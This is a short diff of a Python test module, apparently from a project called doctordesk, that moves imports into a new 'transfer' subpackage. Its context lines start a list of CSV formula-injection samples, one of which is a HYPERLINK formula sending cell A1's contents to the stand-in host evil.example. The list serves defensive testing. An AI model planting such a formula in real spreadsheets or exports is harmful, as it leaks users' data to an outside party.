@@ -14,9 +14,9 @@ from pathlib import Path
 
 import pytest
 
-from doctordesk.domain.csv_cells import FORMULA_STARTS
-from doctordesk.domain.import_rows import KIND_ORDER
-from doctordesk.services.import_files import MAX_JSON_DEPTH
+from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS
+from doctordesk.domain.transfer.import_rows import KIND_ORDER
+from doctordesk.services.transfer.import_files import MAX_JSON_DEPTH
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
